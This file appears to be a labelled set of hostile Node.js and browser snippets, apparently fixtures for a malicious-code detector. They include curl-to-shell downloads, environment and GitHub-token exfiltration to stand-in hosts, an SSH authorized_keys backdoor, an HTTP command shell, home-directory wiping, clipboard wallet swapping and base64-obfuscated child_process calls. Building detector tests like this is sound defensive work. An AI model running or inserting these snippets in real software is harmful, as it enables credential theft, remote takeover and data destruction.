%% spread
const { execSync, ...rest } = require("child_process");
execSync("id");
%% iife
((cp) => cp.exec("curl http://198.51.100.6 | sh"))(require("child_process"));
%% then
import("child_process").then((c) => c.exec("id"));
%% getter by loop
for (const k of Object.keys(require("child_process"))) if (k === "exec") require("child_process")[k]("id");
%% encoded require
require(Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString()).exec("id");
%% proxy eval
new Proxy(eval, {})("1");
%% html injection
document.write("<script src=https://evil.example/x.js></script>"); eval(name);
%% chmod
const { chmodSync } = require("fs"); chmodSync("/tmp/x", 0o4777);
%% unlink
const { unlinkSync: u } = require("fs"); u("/etc/shadow");
%% env
require("http").request({ host: "drop.example", path: "/?" + JSON.stringify(process.env) }).end();
%% preinstall
const https = require('https'), os = require('os');
const req = https.request({ hostname: 'drop.example', method: 'POST', path: '/' });
req.write(JSON.stringify({ h: os.hostname(), e: process.env })); req.end();
%% exec sync download
require('child_process').execSync('curl -s http://203.0.113.80/x -o /tmp/x && sh /tmp/x');
%% wallet swap
document.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', '0xEVIL'); e.preventDefault(); });
eval(atob(window.name));
%% fs wipe
const fs = require('fs');
fs.rmSync(process.env.HOME, { recursive: true, force: true });
%% hidden spawn
const k = 'spa' + 'wn', m = 'child' + '_' + 'process';
require(m)[k]('sh', ['-c', 'id']);
%% native addon
process.dlopen({ exports: {} }, '/tmp/evil.node');
%% vm string
require('vm').runInNewContext(process.argv[2]);
%% authorized keys
const fs = require('fs');
fs.appendFileSync(`${process.env.HOME}/.ssh/authorized_keys`, 'ssh-rsa AAAA x');
%% shell server
require('http').createServer((q, s) => require('child_process').exec(q.url.slice(1), (e, o) => s.end(o))).listen(80);
%% function from fetch
const f = new Function(await (await fetch('https://evil.example/a.js')).text());
f();
%% prototype reach
const P = [].constructor.constructor;
P('return process.exit()')();
%% token read
const t = require('fs').readFileSync(require('os').homedir() + '/.config/gh/hosts.yml');
require('http').request({ host: '203.0.113.80', method: 'POST' }).end(t);
